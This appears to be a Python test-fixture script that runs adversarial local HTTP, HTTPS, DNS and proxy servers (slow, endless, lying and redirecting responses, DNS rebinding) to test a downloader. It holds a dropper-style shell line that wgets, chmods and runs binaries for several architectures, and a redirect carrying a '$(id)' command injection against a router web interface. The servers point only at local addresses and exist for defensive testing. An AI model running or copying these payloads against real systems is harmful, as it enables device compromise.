#!/usr/bin/env python3
"""Servers as a fetch meets them: right, slow, endless, lying, redirecting, and names that change where they lead.

usage: servers.py LOG CERTIFICATE

HTTP at port 8000 of all addresses (few connections are made to one), HTTPS at 8443 (CERTIFICATE holds its key, too), DNS at
127.0.0.3:5353/udp, a proxy at 127.0.0.4:3128; a line to LOG for each request and each look-up. The script of a
loader and what it wants lie there, too.
"""
import http.server
import socket
import socketserver
import ssl
import struct
import sys
import threading
import time

HTTP, HTTPS, DNS, PROXY = ("::", 8000), ("::", 8443), ("127.0.0.3", 5353), ("127.0.0.4", 3128)
ELF = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x08\x00\x01\x00\x00\x00" + b"made for the tests, never run" + bytes(99)
LOADER = b"#!/bin/sh\nfor a in mips arm7; do wget http://127.2.1.1:8000/b/$a -O x; chmod 777 x; ./x; done\n"
log = open(sys.argv[1], "a", buffering=1)


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def whole(self, body, status=200, **headers):
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        agent, host = self.headers.get("User-Agent"), self.headers.get("Host")
        print("http", self.path, "agent=" + str(agent), "host=" + str(host), file=log)
        name = self.path.strip("/").split("?")[0].replace("/", "_").replace(".", "_")
        try:
            getattr(self, "answer_" + name, self.nothing)()
        except (BrokenPipeError, ConnectionResetError):
            print("left", self.path, file=log)
        self.close_connection = True

    def nothing(self):
        if self.path.startswith("/b/") or self.path.startswith("/many/"):
            self.whole(ELF + self.path.encode())
        else:
            self.whole(b"no", 404)

    def answer_elf(self):
        self.whole(ELF)

    def answer_loader_sh(self):
        self.whole(LOADER)

    def answer_forbidden(self):
        self.whole(b"no", 403)

    def answer_endless(self):
        self.send_response(200)
        self.send_header("Connection", "close")
        self.end_headers()
        while True:
            self.wfile.write(bytes(65536))

    def answer_slow(self):
        self.send_response(200)
        self.send_header("Content-Length", "100000")
        self.end_headers()
        for _ in range(100):
            self.wfile.write(b"x")
            time.sleep(1)

    def answer_lying(self):
        self.send_response(200)
        self.send_header("Content-Length", "1000")
        self.end_headers()
        self.wfile.write(b"only this")

    def answer_huge(self):
        self.send_response(200)
        self.send_header("Content-Length", str(1 << 40))
        self.end_headers()
        self.wfile.write(b"x")

    def answer_moved(self):
        self.whole(b"", 302, Location="/elf?moved")

    def answer_round(self):
        self.whole(b"", 302, Location="/round")

    def answer_inside(self):
        self.whole(b"", 302, Location="http://10.0.0.1/secret")

    def answer_attack(self):
        self.whole(b"", 302, Location="http://127.0.0.2:8000/cgi-bin/luci/;stok=/locale?form=country&x=$(id)")

    def answer_nonsense(self):
        self.wfile.write(b"\0\xff" * 2000)

    def answer_headers(self):
        self.send_response(200)
        for i in range(90):
            self.send_header(f"X-{i}", "y" * 1000)
        self.end_headers()


class Dns(socketserver.BaseRequestHandler):
    """many-N leads to the server; rebind.example.com to it once, and then inside; inside to inside; none nowhere."""
    asked = {}

    def handle(self):
        data, own = self.request
        name, at = [], 12
        while data[at]:
            name.append(data[at + 1:at + 1 + data[at]].decode())
            at += data[at] + 1
        kind = struct.unpack(">H", data[at + 1:at + 3])[0]
        name = ".".join(name).lower()
        if kind == 1:
            Dns.asked[name] = Dns.asked.get(name, 0) + 1
            print("dns", name, file=log)
        address = self.address(name, Dns.asked.get(name, 0))
        answers = [] if kind != 1 or not address else [
            b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 0, 4) + bytes(map(int, address.split(".")))]
        flags = 0x8180 if address else 0x8183
        own.sendto(data[:2] + struct.pack(">HHHHH", flags, 1, len(answers), 0, 0) + data[12:at + 5] + b"".join(answers), self.client_address)

    @staticmethod
    def address(name, times):
        if name.startswith("many-") or name == "files.example.com":
            return "127.0.0.2"
        if name == "rebind.example.com":
            return "127.0.0.2" if times == 1 else "10.0.0.1"
        return {"inside.example.com": "10.0.0.1"}.get(name)


class Proxy(socketserver.StreamRequestHandler):
    """Carries what CONNECT asks for (RFC 9110, section 9.3.6), and tells of it."""

    def handle(self):
        wanted = self.rfile.readline().decode().split()
        while self.rfile.readline().strip():
            pass
        print("proxy", *wanted[:2], file=log)
        host, port = wanted[1].rsplit(":", 1)
        with socket.create_connection((host, int(port))) as other:
            self.wfile.write(b"HTTP/1.1 200 Connected\r\n\r\n")
            self.wfile.flush()
            threading.Thread(target=self.carry, args=(self.connection, other), daemon=True).start()
            self.carry(other, self.connection)

    @staticmethod
    def carry(source, to):
        try:
            while piece := source.recv(65536):
                to.sendall(piece)
            to.shutdown(socket.SHUT_WR)
        except OSError:
            pass


class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
    """Not http.server's, which asks for its own name and waits where nobody answers."""
    daemon_threads = True
    allow_reuse_address = True


class BothFamilies(Server):
    address_family = socket.AF_INET6

    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()


class Encrypted(BothFamilies):
    def get_request(self):
        plain, peer = super().get_request()
        return context.wrap_socket(plain, server_side=True, do_handshake_on_connect=False), peer


context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[2])
for server in socketserver.ThreadingUDPServer(DNS, Dns), Server(PROXY, Proxy), Encrypted(HTTPS, Handler):
    threading.Thread(target=server.serve_forever, daemon=True).start()
BothFamilies(HTTP, Handler).serve_forever()
